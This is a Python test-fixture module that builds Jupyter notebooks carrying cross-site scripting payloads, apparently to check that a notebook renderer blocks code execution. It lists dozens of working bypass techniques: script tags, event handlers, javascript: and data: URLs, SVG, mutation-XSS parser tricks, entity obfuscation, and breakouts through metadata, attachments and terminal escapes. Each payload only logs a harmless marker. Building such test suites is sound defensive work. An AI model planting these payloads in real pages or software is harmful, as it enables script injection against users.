# ruff: noqa: E501 - a payload stands in one piece, as somebody would write it
"""Ways in which a notebook could run something on the page that shows it.

Each is a list of cells that writes `ran-N` to the console where it succeeds, N its place here; a
harmless program, in every place that a renderer reads.
"""

import base64

OUTSIDE = "https://outside.invalid/"


def packed(text):
    return base64.b64encode(text.encode()).decode()


def code(*outputs, source="show()", **metadata):
    return {
        "cell_type": "code", "execution_count": 1, "metadata": metadata, "source": source,
        "outputs": list(outputs),
    }  # fmt: skip


def data(kind, content, **metadata):
    held = {"data": {kind: content, "text/plain": "plain"}, "metadata": metadata}
    return code({"output_type": "display_data", **held})


def html(content):
    return data("text/html", content)


def words(source, **more):
    return {"cell_type": "markdown", "metadata": {}, "source": source, **more}


def stream(text):
    return code({"output_type": "stream", "name": "stdout", "text": text})


def error(name, value, *lines):
    return code({"output_type": "error", "ename": name, "evalue": value, "traceback": list(lines)})


RUN = "console.log('ran-@')"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f'<img src="x" onerror="{RUN}">'
BREAK = f'"></iframe></details>{SCRIPT}{IMAGE}<iframe srcdoc="'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

PAYLOADS = {
    # what an output may carry as HTML
    "a script": [html(SCRIPT)],
    "a script that others load": [html(f'<script src="{OUTSIDE}x.js"></script>{SCRIPT}')],
    "an image that fails": [html(IMAGE)],
    "a frame with an address that is code": [html(f'<iframe src="javascript:{RUN}"></iframe>')],
    "a frame with a document": [html(f'<iframe srcdoc="<img src=x onerror=parent.{RUN}>"></iframe>')],
    "a frame with data": [html(f'<iframe src="data:text/html;base64,{packed(SCRIPT)}"></iframe>')],
    "a drawing in the text": [html(SVG)],
    "an animation of a drawing": [html(f'<svg><animate onbegin="{RUN}" attributeName="x"/></svg>')],
    "a drawing that uses another": [
        html(f'<svg><use href="data:image/svg+xml;base64,{packed(SVG)}#x"/><a xlink:href="javascript:{RUN}"><text y="20">x</text></a></svg>')],
    "a link to code": [html(f'<a href="javascript:{RUN}">click</a>')],
    "a link to code, written apart": [html(f'<a href="java&#x09;script:{RUN}">click</a>')],
    "a link to code, in entities": [html(f'<a href="&#106;&#97;vascript&colon;{RUN}">click</a>')],
    "a link to a page of data": [html(f'<a href="data:text/html;base64,{packed(SCRIPT)}">click</a>')],
    "an address in a style": [html(f'<p style="background:url({OUTSIDE}a);list-style:url(\'{OUTSIDE}b\')">x</p>')],
    "a style that moves": [html(f'<style>@import "{OUTSIDE}c.css";@keyframes m{{}}</style><p style="animation:m 1s" onanimationstart="{RUN}">x</p>')],
    "a page that goes elsewhere": [html(f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{packed(SCRIPT)}">')],
    "a base for every address": [html(f'<base href="{OUTSIDE}"><script src="x.js"></script><img src="d">')],
    "a form": [html(f'<form action="javascript:{RUN}"><button>click</button></form><button formaction="javascript:{RUN}" form="f">b</button><form id="f"></form>')],
    "an object": [html(f'<object data="data:text/html;base64,{packed(SCRIPT)}"></object>')],
    "an embedded drawing": [html(f'<embed src="data:image/svg+xml;base64,{packed(SVG)}">')],
    "sheets and pictures of others": [html(f'<link rel="stylesheet" href="{OUTSIDE}e.css"><link rel="preload" as="image" href="{OUTSIDE}f"><img srcset="{OUTSIDE}g 1x"><video poster="{OUTSIDE}h" src="{OUTSIDE}i"></video><table background="{OUTSIDE}j"></table><input type="image" src="{OUTSIDE}k">')],
    "what starts by itself": [html(f'<details open ontoggle="{RUN}"><summary>x</summary></details><input autofocus onfocus="{RUN}"><marquee onstart="{RUN}">x</marquee><video><source onerror="{RUN}"></video>')],
    "what starts when touched": [html(f'<p onmouseover="{RUN}" onclick="{RUN}" onfocus="{RUN}" tabindex="0">x</p>')],
    "a closed text field": [html(f'<textarea><p title="</textarea>{SCRIPT}"></textarea>')],
    "a closed title": [html(f'<title><p title="</title>{SCRIPT}"></title><xmp><p title="</xmp>{SCRIPT}">')],
    # rules of reading that change within
    "formulas that hide a style": [html(f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></mglyph></table></mtext></math>')],
    "a formula that holds HTML": [html(f'<math><annotation-xml encoding="text/html"><style><img src=x onerror="{RUN}"></style></annotation-xml><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>')],
    "a style in a drawing": [html(f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">')],
    "no script": [html(f'<noscript><p title="</noscript>{IMAGE}"></noscript>')],
    "a comment that ends early": [html(f'<!--><img src=x onerror="{RUN}">-->')],
    "a template": [html(f'<template><script>{RUN}</script></template><select><template shadowrootmode=open>{IMAGE}</template></select>')],
    "nested forms": [html(f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">')],
    # other kinds of output
    "a program": [data("application/javascript", RUN)],
    "an old kind of program": [data("text/javascript", RUN)],
    "words as an output": [data("text/markdown", SCRIPT)],
    "an image in words as an output": [data("text/markdown", f"# x\n\n{IMAGE}")],
    "a diagram": [data("text/vnd.mermaid", f"</div>{IMAGE}{SCRIPT}")],
    "a formula": [data("text/latex", f"$x$ {SCRIPT} \\href{{javascript:{RUN}}}{{x}}")],
    "a kind of its own": [data("application/vnd.mine+html", SCRIPT)],
    "a kind whose name is HTML": [data(SCRIPT, SCRIPT)],
    "a widget": [data("application/vnd.jupyter.widget-view+json", {"model_id": f"</script>{SCRIPT}", "version_major": 2})],
    "a figure": [data("application/vnd.plotly.v1+json", {"data": [{"text": f"</script>{SCRIPT}"}], "layout": {}})],
    "a drawing": [data("image/svg+xml", SVG)],
    "a drawing that is none": [data("image/svg+xml", f'"></div>{SCRIPT}{IMAGE}')],
    "a picture that is none": [data("image/png", f'{PNG}" onerror="{RUN}')],
    "a picture with words about it": [data("image/png", PNG, **{"image/png": {"width": f'1 onload="{RUN}"', "alt": f'"{SCRIPT}'}, "filenames": {"image/png": f'x" onerror="{RUN}'}})],
    "HTML set apart": [data("text/html", SCRIPT, **{"text/html": {"isolated": True}})],
    "plain text": [data("text/plain", SCRIPT + IMAGE)],
    "lines of a stream": [stream(SCRIPT + IMAGE)],
    "lines that command a terminal": [stream(f'\x1b[31m{IMAGE}\x1b[0m \x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07 \x1b["{SCRIPT}m')],
    "an error": [error(SCRIPT, IMAGE, SCRIPT, f"\x1b[0;31m{IMAGE}\x1b[0m")],
    # words and sources
    "a script in words": [words(SCRIPT)],
    "an image in words": [words(f"# x\n\n{IMAGE}\n")],
    "a link in words": [words(f"[click](javascript:{RUN}) [click](<javascript:{RUN}>)")],
    "a title in words": [words(f"![x]({OUTSIDE}p.png 'a\" onerror=\"{RUN}') [x](y \"' onmouseover='{RUN}\")")],
    "a diagram in words": [words(f"```mermaid\n</pre></div>{IMAGE}\n```")],
    "a language in words": [words(f'```"><img/src=x/onerror="{RUN}"\nx\n```\n\n`{IMAGE}`')],
    "a formula in words": [words(f"$$</div>{IMAGE}$$ and $\\href{{javascript:{RUN}}}{{x}}$")],
    "an attachment's name": [words(f'![x](attachment:a"onerror="{RUN}.png)', attachments={f'a"onerror="{RUN}.png': {"image/png": PNG}})],
    "an attached drawing": [words("![x](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": packed(SVG), f'text/html" onerror="{RUN}': "x"}})],
    "a source": [code(source=f"</pre></div>{SCRIPT}{IMAGE}")],
    "a raw cell": [{"cell_type": "raw", "metadata": {"raw_mimetype": "text/html", "format": "text/html"}, "source": SCRIPT}],
    "tags of a cell": [code(source="x", tags=[f'"><script>{RUN}</script>', f"'{IMAGE}"], name=SCRIPT)],
    "an id of a cell": [{**code(source="x"), "id": f'"{IMAGE}'}],
    "a count that is none": [{**code(source="x"), "execution_count": SCRIPT}],
    # out of the frame
    "out of the frame, HTML": [html(BREAK)],
    "out of the frame, text": [data("text/plain", BREAK)],
    "out of the frame, words": [words(BREAK)],
    "out of the frame, source": [code(source=BREAK)],
    "out of the frame, escaped before": [html(BREAK.replace("<", "&lt;").replace('"', "&quot;"))],
    "out of the frame, escaped twice": [words(BREAK.replace("<", "&amp;lt;").replace('"', "&amp;quot;"))],
}  # fmt: skip
"""What each is, and its cells."""


def numbered(value, number):
    """The value with the number of its payload wherever it speaks."""
    if isinstance(value, str):
        return value.replace("ran-@", f"ran-{number}")
    if isinstance(value, list):
        return [numbered(part, number) for part in value]
    if isinstance(value, dict):
        return {numbered(k, number): numbered(part, number) for k, part in value.items()}
    return value


def notebook(name):
    """The executed notebook of one payload; its own words about itself mean harm too."""
    number = list(PAYLOADS).index(name)
    made = {
        "nbformat": 4, "nbformat_minor": 4, "cells": PAYLOADS[name],
        "metadata": {
            "title": f"</title>{SCRIPT}",
            "kernelspec": {"name": "python3", "display_name": SCRIPT, "language": SCRIPT},
            "language_info": {"name": "python", "file_extension": SCRIPT},
            "widgets": {"application/vnd.jupyter.widget-state+json": {
                "state": {"x": f"</script>{SCRIPT}"}, "version_major": 2, "version_minor": 0}},
        },
    }  # fmt: skip
    return numbered(made, number)
